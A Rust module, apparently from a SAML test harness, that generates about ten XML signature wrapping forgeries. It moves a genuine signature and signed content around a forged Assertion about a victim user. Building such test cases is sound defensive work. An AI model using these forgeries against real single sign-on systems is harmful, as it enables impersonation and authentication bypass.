//! XML signature wrapping: the genuine signed content is always still there; what a careless reader takes is the victim.

use super::{Forger, behind_issuer, element};
use crate::{IdpError, Signed};

/// The ID of what is forged.
const FORGED_ID: &str = "_forged";

/// A genuine Response with a signed Assertion, in pieces.
struct Pieces {
    xml: String,
    /// The signed Assertion with its signature.
    assertion: String,
    signature: String,
    /// The signed Assertion without its signature.
    bare: String,
    /// An Assertion about the victim with an ID of its own.
    evil: String,
}

fn pieces(forger: &Forger<'_>) -> Result<Pieces, IdpError> {
    let xml = forger.genuine(Signed::Assertion)?;
    let assertion = element(&xml, "saml:Assertion").to_owned();
    let signature = element(&assertion, "ds:Signature").to_owned();
    let bare = assertion.replacen(&signature, "", 1);
    let evil = forger.about_victim(&bare).replace(&forger.terms.assertion_id, FORGED_ID);
    Ok(Pieces { xml, assertion, signature, bare, evil })
}

/// A Response about the victim that is not signed, the genuine signature, and what that signature covers.
fn response_pieces(forger: &Forger<'_>) -> Result<(String, String, String), IdpError> {
    let xml = forger.genuine(Signed::Response)?;
    let signature = element(&xml, "ds:Signature").to_owned();
    let bare = xml.replacen(&signature, "", 1);
    let evil = forger.about_victim(&bare).replace(&forger.terms.response_id, FORGED_ID);
    Ok((evil, signature, bare))
}

pub(super) fn response_in_object(forger: &Forger<'_>) -> Result<String, IdpError> {
    let (evil, signature, bare) = response_pieces(forger)?;
    Ok(behind_issuer(&evil, &with_object(&signature, &bare)))
}

pub(super) fn response_before_signature(forger: &Forger<'_>) -> Result<String, IdpError> {
    let (evil, signature, bare) = response_pieces(forger)?;
    Ok(behind_issuer(&evil, &format!("{bare}{signature}")))
}

pub(super) fn assertion_first(forger: &Forger<'_>) -> Result<String, IdpError> {
    let Pieces { xml, assertion, evil, .. } = pieces(forger)?;
    Ok(xml.replacen(&assertion, &format!("{evil}{assertion}"), 1))
}

pub(super) fn assertion_around(forger: &Forger<'_>) -> Result<String, IdpError> {
    let Pieces { xml, assertion, evil, .. } = pieces(forger)?;
    let around = evil.replace("</saml:Assertion>", &format!("{assertion}</saml:Assertion>"));
    Ok(xml.replacen(&assertion, &around, 1))
}

pub(super) fn signature_moved(forger: &Forger<'_>) -> Result<String, IdpError> {
    let Pieces { xml, assertion, signature, bare, evil } = pieces(forger)?;
    Ok(xml.replacen(&assertion, &format!("{}{bare}", behind_issuer(&evil, &signature)), 1))
}

pub(super) fn assertion_in_signature(forger: &Forger<'_>) -> Result<String, IdpError> {
    let Pieces { xml, assertion, signature, bare, evil } = pieces(forger)?;
    let carrying = signature.replace("</ds:Signature>", &format!("{bare}</ds:Signature>"));
    Ok(xml.replacen(&assertion, &behind_issuer(&evil, &carrying), 1))
}

pub(super) fn assertion_in_extensions(forger: &Forger<'_>) -> Result<String, IdpError> {
    let Pieces { xml, evil, .. } = pieces(forger)?;
    Ok(behind_issuer(&xml, &format!("<samlp:Extensions>{evil}</samlp:Extensions>")))
}

pub(super) fn assertion_in_object(forger: &Forger<'_>) -> Result<String, IdpError> {
    let Pieces { xml, assertion, signature, bare, evil } = pieces(forger)?;
    Ok(xml.replacen(&assertion, &behind_issuer(&evil, &with_object(&signature, &bare)), 1))
}

/// The genuine content is no Assertion any more, so that only one is counted; the forged one has its ID.
pub(super) fn same_id(forger: &Forger<'_>) -> Result<String, IdpError> {
    let Pieces { xml, assertion, signature, bare, evil } = pieces(forger)?;
    let hidden = bare.replace("saml:Assertion", "saml:Advice");
    let evil = behind_issuer(&evil.replace(FORGED_ID, &forger.terms.assertion_id), &signature);
    Ok(xml.replacen(&assertion, &format!("{hidden}{evil}"), 1))
}

fn with_object(signature: &str, content: &str) -> String {
    signature.replace("</ds:Signature>", &format!("<ds:Object>{content}</ds:Object></ds:Signature>"))
}
